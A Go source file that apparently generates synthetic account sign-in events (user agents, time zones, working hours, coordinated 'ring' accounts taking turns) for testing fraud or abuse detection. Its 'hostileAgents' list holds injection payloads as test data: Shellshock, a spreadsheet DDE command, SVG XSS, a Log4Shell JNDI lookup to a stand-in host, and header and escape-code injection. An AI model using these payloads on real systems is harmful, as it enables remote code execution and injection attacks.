package synth

import (
	"slices"

	"github.com/seed-28a39f10/clew/model"
)

var userAgents = [...]string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:146.0) Gecko/20100101 Firefox/146.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36",
	"Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0)",
	"python-requests/2.32.5",
}

var hostileAgents = [...]string{
	"() { :;}; echo vulnerable",
	"Mozilla/5.0 \x1b[31;5mALERT\x1b[0m",
	"=cmd|' /C calc'!A0",
	"<svg/onload=alert(1)>",
	"${jndi:ldap://phish.example/a}",
	"Mozilla\u202e/5.0",
	"Mozilla/5.0 \r\nX-Injected: yes",
	"",
}

var apps = [...]string{"Webmail", "Desktop mail", "Mobile mail", "Developer portal", "Account settings"}

// signin is one event before it is written.
type signin struct {
	time                int64 // Unix seconds
	ip, device, session int   // indices into account.refs, -1 for none
	agent               int   // of userAgents
	mayFail             bool
}

// setZone works out when the account's hand is awake.
func (a *account) setZone() {
	claimed := places[a.who.place].offset
	r := rng{hash(a.key, 'z')}
	// A hand on the other side of the clock may sit anywhere: the deck again.
	elsewhere := func(key uint64) int { return places[deal(key, int(key%deckSize)).place].offset }
	a.zone = claimed
	switch a.group.role {
	case ring, careful:
		if a.group.role == careful || r.permille(800) {
			a.zone = elsewhere(hash(a.group.key, 'z'))
		}
	case agency, kiosk:
		a.zone = elsewhere(hash(a.group.key, 'z'))
	default:
		switch x := r.n(1000); {
		case x < 80: // works at night
			a.zone = claimed - 600 - r.n(180)
		case x < 120: // works for people elsewhere
			a.zone = elsewhere(r.next())
		}
	}
}

// spread over 16 equally frequent cases, in 64ths of the mean.
var spread = [16]int{0, 8, 16, 24, 32, 40, 48, 56, 64, 72, 80, 88, 96, 112, 128, 160}

// setSignins fills g.events, in order of time.
func (g *generator) setSignins() {
	a := &g.account
	g.events = g.events[:0]
	if g.milliSignins == 0 {
		return
	}
	if a.group.role == careful {
		g.takeTurns()
		return
	}
	r := rng{hash(a.key, 'i')}
	n := (g.milliSignins*spread[r.n(16)]/64 + r.n(1000)) / 1000
	for range n {
		g.events = append(g.events, signin{
			time: a.workTime(&r), ip: a.pick(&r, model.KindIP), device: a.pick(&r, model.KindDevice),
			session: a.pick(&r, model.KindSession), agent: below(hash(a.key, 'u'), len(userAgents)), mayFail: true,
		})
	}
	slices.SortFunc(g.events, func(x, y signin) int { return int(x.time - y.time) })
}

// workTime gives an instant in the working day of the account's hand, two days
// and more inside the account's time, so that no zone leads out of it.
func (a *account) workTime(r *rng) int64 {
	from, days := a.first/day+2, int(a.last/day-a.first/day)-3
	d := from + int64(r.n(days))
	if weekday := (d + 4) % 7; weekday == 0 || weekday == 6 {
		d = from + int64(r.n(days)) // weekends once in a while
	}
	local := 420 + r.n(400) + r.n(320) // 07:00 to 19:00, most around noon
	return d*day + int64(local-a.zone)*60 + int64(r.n(60))
}

// pick gives the index of one of the account's values of a kind, every other
// time the first, which is the one that its group shares; -1 where it has none.
func (a *account) pick(r *rng, kind model.Kind) int {
	first, n := -1, 0
	for i := range a.refs {
		if v := &a.refs[i]; v.kind == kind && v.form != placeholder {
			if first < 0 {
				first = i
			}
			n++
		}
	}
	if n < 2 || r.permille(500) {
		return first
	}
	skip := r.n(n)
	for i := first; ; i++ {
		if v := &a.refs[i]; v.kind == kind && v.form != placeholder {
			if skip == 0 {
				return i
			}
			skip--
		}
	}
}

// Turns of a careful ring: on turnDays days one hand works through all members,
// one after the other, from one address. Who begins moves on by one each day,
// so that each hands over to the next on at least two days of three.
const (
	turnDays  = 12
	turnEvery = 8 // days
)

func (g *generator) takeTurns() {
	a, gr := &g.account, &g.account.group
	addresses := carefulExits(gr, &g.hubs[exits])
	agent := below(hash(a.key, 'u'), len(userAgents))
	for d := range turnDays {
		r := rng{hash(gr.key, uint64(d)<<8|'d')}
		t := int64(opening/day+3+turnEvery*d)*day + int64(450+r.n(60)-a.zone)*60
		address := addresses[r.n(2)]
		for i := range gr.size {
			length := int64(35*60 + r.n(40*60))
			gap := int64(120 + r.n(7*60))
			if (i+d)%gr.size == a.member {
				own := rng{hash(a.key, uint64(d)<<8|'d')}
				e := signin{ip: slices.Index(a.refs, address), agent: agent}
				e.device, e.session = a.pick(&own, model.KindDevice), a.pick(&own, model.KindSession)
				for _, at := range [...]int64{0, length / 2, length} {
					e.time = t + at
					g.events = append(g.events, e)
				}
				break
			}
			t += length + gap
		}
	}
}
